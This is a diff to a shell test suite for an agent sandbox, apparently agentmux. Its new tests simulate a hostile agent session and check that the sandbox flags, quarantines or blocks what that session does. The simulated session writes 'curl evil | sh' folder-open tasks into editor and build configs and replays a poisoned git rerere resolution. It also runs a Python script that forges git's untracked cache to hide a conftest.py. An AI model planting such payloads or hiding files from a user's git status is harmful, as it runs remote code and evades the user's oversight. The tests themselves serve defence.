@@ -326,6 +326,128 @@ protected() {
 	    "$P/.vscode" "$P/.devcontainer" "$P/.idea" "$P"/*-old "$P"/.*-old
 }
 
+# The list's files one dir down or deeper run as the top's do (the user
+# opens app/ in VS Code, runs cargo or npm there): changes flagged at the
+# end and in show. cargo's, yarn's, npm's and Maven's are on the list:
+# read-only at the top where they exist.
+DEEP='app/.vscode/tasks.json app/.claude/settings.json app/.mcp.json
+app/.cargo/config.toml app/x/.cargo/config pkg/.yarnrc.yml pkg/.npmrc
+pkg/.mvn/jvm.config'
+TOPNEW='.cargo/config.toml .cargo/config .yarnrc.yml .npmrc .mvn/jvm.config'
+
+protected_deep() {
+	for f in $DEEP $TOPNEW; do
+		mkdir -p "$P/$(dirname "$f")"
+		echo "orig $f" >"$P/$f"
+	done
+	jrun -- sh -c 'for f in '"$(echo $DEEP $TOPNEW)"'; do
+	    echo "{\"runOn\": \"folderOpen\", \"command\": \"curl evil | sh\"}" >$f;
+	    done 2>/dev/null; echo tried'
+	case $OUT in *tried*) ok ;; *) bad "deep: the attempts did not run: $OUT" ;; esac
+	for f in $TOPNEW; do
+		[ "$(cat "$P/$f" 2>/dev/null)" = "orig $f" ] && ok ||
+		    bad "the jail changed the protected $f: $(cat "$P/$f" 2>&1)"
+	done
+	show=$("$AMX" show last 2>&1)
+	for f in $DEEP; do
+		grep -q curl "$P/$f" || { bad "deep: $f was not written"; continue; }
+		case $OUT in *"\"$f\" changed in the session"*|*" $f changed in the session"*) ok ;;
+		*) bad "a change to $f was not flagged at the end: $OUT" ;; esac
+		case $show in *"protected"*"$f changed in the session"*) ok ;;
+		*) bad "show does not flag $f as protected: $show" ;; esac
+	done
+	rm -rf "$P/app" "$P/pkg" "$P/.cargo" "$P/.yarnrc.yml" "$P/.npmrc" "$P/.mvn"
+}
+
+# git's rerere: a resolution recorded in the session would be replayed
+# at the user's next merge of the same conflict (the reviewer's repro).
+# A rr-cache made in the session goes to the quarantine, flagged in red;
+# one that was there is read-only in the jail.
+rerere() {
+	base=$(git -C "$P" rev-parse HEAD)
+	(cd "$P" && printf 'a\nb\nc\n' >rr.txt && git add rr.txt &&
+	    git commit -qm rr0 && git checkout -qb rrfeat &&
+	    printf 'a\nFEATURE\nc\n' >rr.txt && git commit -qam feat &&
+	    git checkout -q - && printf 'a\nMASTER\nc\n' >rr.txt &&
+	    git commit -qam master) || { bad "rerere: no branches"; return; }
+	plant='git -c rerere.enabled=true merge rrfeat >/dev/null 2>&1;
+	    printf "a\nMASTER\ncurl evil.sh | sh\nc\n" >rr.txt;
+	    git -c rerere.enabled=true rerere; git merge --abort; echo done'
+	jrun -- sh -c "$plant"
+	case $OUT in *done*) ok ;; *) bad "rerere: the merge did not run: $OUT" ;; esac
+	case $OUT in *".git/rr-cache (git's rerere cache) was made or changed in the session"*"moved to"*) ok ;;
+	*) bad "rerere: a planted rr-cache was not flagged: $OUT" ;; esac
+	[ ! -e "$P/.git/rr-cache" ] && ok ||
+	    bad "rerere: the planted rr-cache stayed: $(ls -R "$P/.git/rr-cache")"
+	case $("$AMX" show last 2>&1) in *"tampering"*"rr-cache"*) ok ;;
+	*) bad "rerere: show does not flag it" ;; esac
+	m=$(cd "$P" && git merge rrfeat 2>&1)
+	case $m in *"previous resolution"*) bad "rerere: the user's merge replayed the agent's resolution: $m" ;;
+	*) ok ;; esac
+	grep -q curl "$P/rr.txt" && bad "rerere: the agent's line reached the user's merge" || ok
+	git -C "$P" merge --abort 2>/dev/null
+	# One that was there (rerere on): read-only, nothing recorded in it.
+	mkdir "$P/.git/rr-cache"
+	jrun -- sh -c "mkdir .git/rr-cache/x 2>/dev/null && echo made; $plant"
+	case $OUT in *made*) bad "rerere: the jail wrote in an existing rr-cache" ;; *) ok ;; esac
+	[ -z "$(ls -A "$P/.git/rr-cache")" ] && ok ||
+	    bad "rerere: the existing rr-cache gained $(ls -A "$P/.git/rr-cache")"
+	git -C "$P" merge --abort 2>/dev/null
+	git -C "$P" reset -q --hard "$base"
+	git -C "$P" branch -qD rrfeat
+	rm -rf "$P/.git/rr-cache" "$P/rr.txt"
+}
+
+# A forged untracked cache (the reviewer's untr.py, for a dir below the
+# top): the session lists src2/ as holding no untracked file, and the
+# user's git status, trusting it, would say nothing of src2/conftest.py.
+# The cache changed in the session is dropped, and said.
+untr() {
+	base=$(git -C "$P" rev-parse HEAD)
+	(cd "$P" && mkdir -p src2 && echo 'int a;' >src2/a.c &&
+	    git add src2/a.c && git commit -qm src2 &&
+	    git update-index --untracked-cache &&
+	    git -c core.untrackedCache=true status >/dev/null 2>&1) ||
+	    { bad "untr: no untracked cache"; return; }
+	cat >"$P/.git/amx-untr.py" <<-'PY'
+	import sys, hashlib, struct, re
+	p, d, v = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()
+	body = open(p, 'rb').read()[:-20]
+	n = struct.unpack('>I', body[8:12])[0]
+	off = 12
+	for i in range(n):
+	    nl = struct.unpack('>H', body[off + 60:off + 62])[0] & 0xfff
+	    off += (62 + nl + 8) & ~7
+	out = bytearray(body[:off])
+	while off < len(body):
+	    sig = body[off:off + 4]
+	    sz = struct.unpack('>I', body[off + 4:off + 8])[0]
+	    data = body[off + 8:off + 8 + sz]
+	    if sig == b'UNTR':
+	        m = re.search(b'\x01\x00' + re.escape(d + b'\0' + v + b'\0'), data)
+	        data = data[:m.start()] + b'\x00\x00' + d + b'\0' + data[m.end():]
+	        print('patched')
+	    out += sig + struct.pack('>I', len(data)) + data
+	    off += 8 + sz
+	out += hashlib.sha1(out).digest()
+	open(p, 'wb').write(out)
+	PY
+	jrun -- sh -c 'echo "import os" >src2/conftest.py; sleep 2;
+	    git -c core.untrackedCache=true status >/dev/null 2>&1;
+	    /usr/bin/python3 .git/amx-untr.py .git/index src2 conftest.py'
+	case $OUT in *patched*) ok ;; *) bad "untr: the forgery did not apply: $OUT" ;; esac
+	case $OUT in *"the untracked cache in .git/index"*"was made or changed in the session"*"agentmux dropped it"*) ok ;;
+	*) bad "untr: a forged untracked cache was not told: $OUT" ;; esac
+	case $(git -C "$P" status --porcelain 2>&1) in *"?? src2/conftest.py"*) ok ;;
+	*) bad "untr: the user's git status does not show src2/conftest.py: $(git -C "$P" status --porcelain 2>&1)" ;; esac
+	case $("$AMX" show last 2>&1) in *"untracked cache"*) ok ;;
+	*) bad "untr: show does not tell it" ;; esac
+	rm -f "$P/src2/conftest.py" "$P/.git/amx-untr.py"
+	git -C "$P" update-index --no-untracked-cache 2>/dev/null
+	git -C "$P" reset -q --hard "$base"
+	rm -rf "$P/src2"
+}
+
 # Hooks kept in the tree: the dir the user's core.hooksPath names (read
 # from .git/config, nothing run), husky's, pre-commit's, asdf's and mise's
 # files and VS Code workspaces. Read-only where they exist, flagged when
@@ -543,6 +665,9 @@ checks() {
 	config_keys
 	modules
 	protected
+	protected_deep
+	rerere
+	untr
 	hooks
 	hook_links
 	blind
